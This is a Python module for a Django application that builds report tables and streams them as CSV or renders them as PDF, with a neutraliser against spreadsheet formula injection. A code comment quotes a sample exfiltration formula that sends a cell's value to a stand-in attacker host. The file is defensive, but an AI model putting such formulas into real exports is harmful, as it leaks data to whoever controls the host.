"""A table is a title, columns and rows of plain values (str, int, Decimal, date); a report is a
title, the period it covers and its tables. One definition renders on screen, as CSV and as PDF
(`respond`). Money is Decimal throughout; the templates show it as $10.00.

Every CSV that leaves Dogtag is written here (`csv_lines`), so every cell a spreadsheet would
read as a formula is neutralised in one place (`neutralise`), and a long list streams row by
row instead of being built in memory."""

import csv
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass, field
from datetime import date
from decimal import Decimal
from functools import wraps
from operator import attrgetter
from typing import Any

from django.http import StreamingHttpResponse
from django.shortcuts import render
from django.utils import timezone

from dogtag.lib.pdf import pdf_response

# A cell starting with one of these is a formula to Excel, LibreOffice or Google Sheets
# (OWASP, "CSV Injection"): =HYPERLINK("http://evil.example/?x="&A1,"click") would leak a row.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


@dataclass
class Table:
    title: str
    columns: list[str]
    rows: Iterable = field(default_factory=list)  # lists of values; may be a generator over a queryset
    totals: list | None = None
    links: list[str | None] | None = None  # a URL per row, for its first cell

    @property
    def linked_rows(self):
        rows = list(self.rows)
        links = self.links or [None] * len(rows)
        return list(zip(rows, links, strict=True))


@dataclass
class Report:
    title: str
    subtitle: str
    tables: list[Table]
    notes: list[str] = field(default_factory=list)
    citations: list = field(default_factory=list)
    chart: dict | None = None


@dataclass(frozen=True)
class Column:
    """A column of a list: its heading and how a row's value is read (an attribute path such as
    "owner.name", or a function of the row)."""

    title: str
    value: str | Callable[[Any], Any]

    def of(self, obj):
        if callable(self.value):
            return self.value(obj)
        try:
            return attrgetter(self.value)(obj)
        except AttributeError:  # a missing related row ("owner.name" without an owner)
            return None


def table(title: str, columns: list[Column], objects) -> Table:
    """A table over every object of a queryset (or any iterable), read in chunks as the rows are
    written: the CSV of a 100,000-row list is complete and never held in memory."""
    iterable = objects.iterator(chunk_size=2000) if hasattr(objects, "iterator") else objects
    return Table(title, [c.title for c in columns], (row_of(columns, obj) for obj in iterable))


def row_of(columns: list[Column], obj) -> list:
    return [c.of(obj) for c in columns]


def neutralise(text: str) -> str:
    """Text a spreadsheet would run as a formula gets a leading apostrophe, which shows the text
    as typed and runs nothing."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def cell(value) -> str:
    """A value as CSV text: ISO dates, money to the cent, booleans as yes/no; text neutralised.
    Numbers are not text: a negative amount stays a number."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "yes" if value else "no"
    if isinstance(value, Decimal):
        return f"{value:.2f}"
    if isinstance(value, int | float):
        return str(value)
    if isinstance(value, date):
        return value.isoformat()
    return neutralise(str(value))


class _Line:
    """A file-like object that hands back what csv.writer writes (one line at a time)."""

    def write(self, line):
        return line


def csv_lines(report: Report) -> Iterator[str]:
    """The report as CSV, one line at a time: the table's title before each table when there are
    several, the columns, the rows, the totals."""
    writer = csv.writer(_Line())
    single = len(report.tables) == 1
    for i, table in enumerate(report.tables):
        if not single:
            if i:
                yield writer.writerow([])
            yield writer.writerow([cell(table.title)])
        yield writer.writerow([cell(c) for c in table.columns])
        for row in table.rows:
            yield writer.writerow([cell(v) for v in row])
        if table.totals:
            yield writer.writerow([cell(v) for v in table.totals])


def to_csv(report: Report) -> str:
    return "".join(csv_lines(report))


def csv_response(report: Report | Table, filename: str) -> StreamingHttpResponse:
    """The CSV download of a report or a table, streamed (a 100,000-row list is never in memory)."""
    if isinstance(report, Table):
        report = Report(report.title, "", [report])
    response = StreamingHttpResponse(csv_lines(report), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}.csv"'
    return response


def exports(build):
    """A list page's CSV (`?format=csv`, complete and streamed) and PDF (`?format=pdf`), from the
    report `build(request, *args, **kwargs)` returns: the page's own scoping and queryset, every
    row, not the page's slice. Without a format the view renders the page as before."""

    def decorator(view):
        @wraps(view)
        def wrapper(request, *args, **kwargs):
            request.csv_export = True  # base.html offers the "Export CSV" link
            fmt = request.GET.get("format")
            if fmt not in ("csv", "pdf"):
                return view(request, *args, **kwargs)
            report = build(request, *args, **kwargs)
            name = request.resolver_match.url_name if request.resolver_match else "export"
            if fmt == "csv":
                return csv_response(report, name)
            context = {"report": report, "municipality": getattr(report, "municipality", None), "name": name}
            return pdf_response("reports/report_pdf.html", context, f"{name}.pdf")

        return wrapper

    return decorator


def respond(request, report: Report, municipality, name: str, template="reports/report.html", extra=None):
    """The report on screen, as CSV (`?format=csv`) or as PDF (`?format=pdf`)."""
    fmt = request.GET.get("format")
    filename = f"{name}-{municipality.slug if municipality else 'county'}-{timezone.localdate().isoformat()}"
    if fmt == "csv":
        return csv_response(report, filename)
    context = {"report": report, "municipality": municipality, "name": name, "query": request.GET, **(extra or {})}
    if fmt == "pdf":
        return pdf_response("reports/report_pdf.html", context, f"{filename}.pdf")
    return render(request, template, context)
